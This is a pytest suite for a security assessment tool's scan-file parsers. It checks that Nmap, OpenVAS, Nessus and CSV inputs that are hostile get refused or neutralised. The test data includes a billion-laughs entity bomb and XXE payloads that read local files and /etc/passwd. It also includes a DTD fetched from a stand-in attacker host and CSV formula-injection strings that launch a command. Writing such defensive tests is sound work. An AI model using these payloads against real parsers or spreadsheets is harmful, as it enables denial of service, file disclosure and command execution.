"""Scan parsers on hostile files: each is refused with a clear French message and an English code,
never expanded, fetched or half-read."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cyber360.assess.parsers import (
    DEFAULT_MAX_BYTES,
    ScanParseError,
    ScanResult,
    check_size,
    parse_scan,
)
from cyber360.assess.parsers.nessus import parse_nessus

FIXTURES = Path(__file__).parents[2] / "fixtures" / "scans"
XML_FIXTURES = ("hospital.nmap.xml", "hospital.openvas.xml", "hospital.nessus")
ROOTS = ("nmaprun", "report", "NessusClientData_v2")


def refused(data: bytes, filename: str = "upload.xml", **options: int) -> ScanParseError:
    with pytest.raises(ScanParseError) as caught:
        parse_scan(data, filename, **options)
    return caught.value


def billion_laughs(root: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    ]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n{"".join(entities)}\n]>\n<{root}>&lol9;</{root}>'
    ).encode()


@pytest.mark.parametrize("root", ROOTS)
def test_entity_expansion_bomb_is_refused_without_expanding(root: str) -> None:
    started = time.perf_counter()
    error = refused(billion_laughs(root))
    assert time.perf_counter() - started < 1.0, "refused at the declaration, nothing expanded"
    assert error.code == "xml_entities_forbidden"
    assert "entités" in error.message


@pytest.mark.parametrize("root", ROOTS)
def test_external_entity_reading_a_local_file_is_refused(root: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-TOKEN-4242")
    xxe = (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret}">]>'
        f"<{root}><host>&xxe;</host></{root}>"
    ).encode()
    error = refused(xxe)
    assert error.code == "xml_external_entity_forbidden"
    assert "externe" in error.message and "SECRET-TOKEN" not in str(error)


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;]>'
        b"<nmaprun/>",
        b'<?xml version="1.0"?><!DOCTYPE nmaprun SYSTEM "http://attacker.example/evil.dtd"><nmaprun/>',
        b'<?xml version="1.0"?><!DOCTYPE nmaprun PUBLIC "-//X//EN" "file:///etc/passwd"><nmaprun/>',
    ],
    ids=["parameter-entity", "external-dtd", "public-dtd"],
)
def test_other_external_references_are_refused(document: bytes) -> None:
    assert refused(document).code == "xml_external_entity_forbidden"


def test_each_parser_refuses_entities_when_called_directly() -> None:
    with pytest.raises(ScanParseError) as caught:
        parse_nessus(billion_laughs("NessusClientData_v2"))
    assert caught.value.code == "xml_entities_forbidden"


@pytest.mark.parametrize("name", XML_FIXTURES)
def test_truncated_report_is_refused_with_its_position(name: str) -> None:
    data = (FIXTURES / name).read_bytes()
    error = refused(data[: len(data) // 2], name)
    assert error.code == "xml_malformed"
    assert "ligne" in error.message and "tronqué" in error.message


@pytest.mark.parametrize(
    "document",
    [
        b"<nmaprun><host></nmaprun>",
        b'<?xml version="1.0" encoding="UTF-7"?><nmaprun/>',
        b'<?xml version="1.0" encoding="no-such-encoding"?><nmaprun/>',
        b"<nmaprun>\x00</nmaprun>",
    ],
    ids=["unclosed", "utf-7", "unknown-encoding", "nul"],
)
def test_malformed_xml_is_refused(document: bytes) -> None:
    assert refused(document).code == "xml_malformed"


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "filename", "code"),
    [
        (b"", "empty.xml", "file_empty"),
        (b"  \n\t ", "blank.csv", "file_empty"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "report.pdf", "format_unrecognised"),
        (zip_bytes(), "inventaire.xlsx", "format_unrecognised"),
        (b'{"hosts": []}', "scan.json", "format_unrecognised"),
        (b"\x7fELF\x02\x01\x01\x00\x00\x00", "a.out", "format_unrecognised"),
        (b"<html><body>Not a scan</body></html>", "page.html", "format_unrecognised"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            "image.svg",
            "format_unrecognised",
        ),
        (b"name,colour\nfoo,blue\n", "other.csv", "format_unrecognised"),
        (b"hostname,address\npacs,10.0.0.1\n", "scan.nessus", "format_mismatch"),
    ],
    ids=["empty", "blank", "pdf", "xlsx", "json", "binary", "html", "svg", "csv-other", "csv-named-nessus"],
)
def test_wrong_formats_are_refused(data: bytes, filename: str, code: str) -> None:
    error = refused(data, filename)
    assert error.code == code
    assert error.message and error.message[0].isupper()


def test_oversized_upload_is_refused_before_parsing() -> None:
    error = refused(billion_laughs("nmaprun"), max_bytes=100)
    assert error.code == "file_too_large", "size checked first: the bomb is never parsed"
    assert refused(b" " * (DEFAULT_MAX_BYTES + 1)).code == "file_too_large"
    assert DEFAULT_MAX_BYTES == 50 * 1024 * 1024
    with pytest.raises(ScanParseError):
        check_size(DEFAULT_MAX_BYTES + 1)
    check_size(DEFAULT_MAX_BYTES)


def test_csv_injection_in_text_columns_is_neutralised_and_flagged() -> None:
    data = (
        b"hostname;address;kind;os;vendor;model\npc1;10.0.0.1;=1+1;+cmd|' /C calc'!A0;@SUM(A1:A9);\"-2+3\"\n"
    )
    result = parse_scan(data, "inv.csv")
    asset = result.assets[0]
    assert not asset.os.startswith(("=", "+", "-", "@"))
    assert [warning.code for warning in result.warnings].count("spreadsheet_formula_neutralised") == 4
    assert any("Ligne 2" in warning.message for warning in result.warnings)


@pytest.mark.parametrize(
    ("line", "code", "named"),
    [
        ('=HYPERLINK("http://x"),10.0.0.1', "csv_invalid_hostname", "nom d'hôte"),
        ("pacs,10.0.0.999", "csv_invalid_address", "adresse"),
        ("pacs,10.0.0.1,peut-être", "csv_invalid_boolean", "dispositif médical"),
        ("pacs,10.0.0.1,,70000/tcp", "csv_invalid_service", "services"),
        (",,oui", "csv_missing_identity", "nom d'hôte ou une adresse"),
        ('pacs,"10.0.0.1', "csv_malformed", "ligne"),
    ],
)
def test_invalid_inventory_values_refuse_the_file_naming_line_and_column(
    line: str, code: str, named: str
) -> None:
    data = f"hostname,address,medical_device,services\n{line}\n".encode()
    if code == "csv_malformed":
        data = data.rstrip(b"\n")
    error = refused(data, "inv.csv")
    assert error.code == code
    assert "igne 2" in error.message and named in error.message


def test_scanner_text_is_cleaned_and_bounded() -> None:
    long_product = "A" * 10_000
    nmap = (
        '<nmaprun><host><status state="up"/><address addr="10.0.0.5" addrtype="ipv4"/>'
        '<hostnames><hostname name="bad&#10;name" type="user"/></hostnames>'
        '<ports><port protocol="tcp" portid="80"><state state="open"/>'
        f'<service name="http" product="{long_product}"'
        ' version="=2+5"/></port><port protocol="tcp" portid="99999"><state state="open"/></port></ports>'
        "</host></nmaprun>"
    ).encode()
    result = parse_scan(nmap, "scan.xml")
    (asset,) = result.assets
    assert asset.hostname == "", "an invalid name is dropped with a warning, the address keeps the asset"
    assert len(asset.services) == 1, "a port out of range is ignored"
    assert len(asset.services[0].product) <= 200 and asset.services[0].version == "2+5"
    assert {"invalid_hostname", "spreadsheet_formula_neutralised"} <= {
        warning.code for warning in result.warnings
    }


def test_warnings_are_capped() -> None:
    hosts = "".join(
        f'<host><address addr="10.0.{index // 250}.{index % 250 + 300}" addrtype="ipv4"/></host>'
        for index in range(500)
    )
    result = parse_scan(f"<nmaprun>{hosts}</nmaprun>".encode(), "scan.xml")
    assert result.assets == ()
    assert len(result.warnings) <= 102


def parse_or_refuse(data: bytes, filename: str) -> ScanResult | ScanParseError:
    try:
        return parse_scan(data, filename)
    except ScanParseError as error:
        assert error.code and error.message
        return error


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=2000), st.sampled_from(["scan.xml", "inv.csv", "x.nessus", ""]))
def test_arbitrary_bytes_are_parsed_or_refused_cleanly(data: bytes, filename: str) -> None:
    parse_or_refuse(data, filename)


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([*XML_FIXTURES, "inventory_fr.csv", "inventory_en.csv"]),
    st.integers(min_value=0, max_value=20_000),
    st.integers(min_value=0, max_value=400),
    st.binary(max_size=20),
)
def test_damaged_fixtures_are_parsed_or_refused_cleanly(
    name: str, start: int, length: int, junk: bytes
) -> None:
    data = (FIXTURES / name).read_bytes()
    start = start % max(len(data), 1)
    parse_or_refuse(data[:start] + junk + data[start + length :], name)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.lists(st.text(max_size=30), max_size=8), max_size=10))
def test_arbitrary_inventory_rows_are_parsed_or_refused_cleanly(rows: list[list[str]]) -> None:
    lines = ["hostname;address;kind;medical_device;internet_exposed;os;services"]
    lines += [";".join(cell.replace("\n", " ") for cell in row) for row in rows]
    parse_or_refuse("\n".join(lines).encode(), "inv.csv")
